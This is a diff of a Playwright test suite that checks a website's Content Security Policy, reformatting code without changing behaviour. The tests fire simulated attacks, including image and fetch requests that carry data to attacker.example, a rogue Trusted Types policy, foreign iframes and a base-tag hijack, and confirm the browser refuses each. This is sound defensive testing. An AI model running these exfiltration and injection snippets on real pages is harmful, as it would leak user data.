@@ -32,11 +32,18 @@ const attacks: { name: string; directive: string; path?: string; attack: () => v
     directive: "require-trusted-types-for",
     attack: () => document.body.setAttribute("onclick", "document.title = 'taken'"),
   },
-  { name: "code made of text", directive: "require-trusted-types-for", attack: () => globalThis.setTimeout("document.title = 'taken'") },
+  {
+    name: "code made of text",
+    directive: "require-trusted-types-for",
+    attack: () => globalThis.setTimeout("document.title = 'taken'"),
+  },
   {
     name: "a policy of its own for trusted text",
     directive: "trusted-types",
-    attack: () => void globalThis.trustedTypes?.createPolicy("attacker", { createScriptURL: (address) => address }),
+    attack: () =>
+      void globalThis.trustedTypes?.createPolicy("attacker", {
+        createScriptURL: (address) => address,
+      }),
   },
   {
     name: "styles in the page",
@@ -47,7 +54,11 @@ const attacks: { name: string; directive: string; path?: string; attack: () => v
       document.head.append(style);
     },
   },
-  { name: "styles in an attribute", directive: "style-src-attr", attack: () => document.body.setAttribute("style", "display: none") },
+  {
+    name: "styles in an attribute",
+    directive: "style-src-attr",
+    attack: () => document.body.setAttribute("style", "display: none"),
+  },
   {
     name: "a picture that carries data out",
     directive: "img-src",
@@ -55,22 +66,35 @@ const attacks: { name: string; directive: string; path?: string; attack: () => v
       new Image().src = "https://attacker.example/?secret";
     },
   },
-  { name: "a request that carries data out", directive: "connect-src", attack: () => void fetch("https://attacker.example/").catch(() => undefined) },
+  {
+    name: "a request that carries data out",
+    directive: "connect-src",
+    attack: () => void fetch("https://attacker.example/").catch(() => undefined),
+  },
   {
     name: "a frame of another host",
     directive: "frame-src",
-    attack: () => document.body.append(Object.assign(document.createElement("iframe"), { src: "https://attacker.example/" })),
+    attack: () =>
+      document.body.append(
+        Object.assign(document.createElement("iframe"), { src: "https://attacker.example/" }),
+      ),
   },
   {
     name: "the map's host on a page without the map",
     directive: "frame-src",
     path: "/about",
-    attack: () => document.body.append(Object.assign(document.createElement("iframe"), { src: "https://www.google.com/maps" })),
+    attack: () =>
+      document.body.append(
+        Object.assign(document.createElement("iframe"), { src: "https://www.google.com/maps" }),
+      ),
   },
   {
     name: "another base for links",
     directive: "base-uri",
-    attack: () => document.head.append(Object.assign(document.createElement("base"), { href: "https://attacker.example/" })),
+    attack: () =>
+      document.head.append(
+        Object.assign(document.createElement("base"), { href: "https://attacker.example/" }),
+      ),
   },
 ];
 
@@ -79,7 +103,9 @@ async function refusedBy(page: Page, attack: () => void): Promise<string[]> {
   await page.evaluate(() => {
     const refused: string[] = [];
     Object.assign(globalThis, { refused });
-    addEventListener("securitypolicyviolation", ({ effectiveDirective, disposition }) => refused.push(`${effectiveDirective} ${disposition}`));
+    addEventListener("securitypolicyviolation", ({ effectiveDirective, disposition }) =>
+      refused.push(`${effectiveDirective} ${disposition}`),
+    );
   });
   // Trusted Types refuse by an exception, the rest by doing nothing.
   await page.evaluate(attack).catch(() => undefined);
@@ -106,12 +132,17 @@ for (const { name, directive, path = "/", attack } of attacks) {
 
 test("no page can be framed, not even the one for unknown addresses", async ({ page }) => {
   const site = process.env["SITE_ADDRESS"] ?? "";
-  const frames = ["/", "/about", "/no-such-page"].map((path) => `<iframe src="${site}${path}"></iframe>`).join("");
-  const other = createServer((_, response) => response.setHeader("Content-Type", "text/html").end(frames));
+  const frames = ["/", "/about", "/no-such-page"]
+    .map((path) => `<iframe src="${site}${path}"></iframe>`)
+    .join("");
+  const other = createServer((_, response) =>
+    response.setHeader("Content-Type", "text/html").end(frames),
+  );
   await new Promise<void>((listening) => other.listen(0, "127.0.0.1", listening));
   try {
     await page.goto(`http://127.0.0.1:${(other.address() as AddressInfo).port}/`);
-    for (const frame of page.frames().slice(1)) expect(await frame.getByRole("main").count()).toBe(0);
+    for (const frame of page.frames().slice(1))
+      expect(await frame.getByRole("main").count()).toBe(0);
     expect(page.frames()).toHaveLength(4);
   } finally {
     other.closeAllConnections();
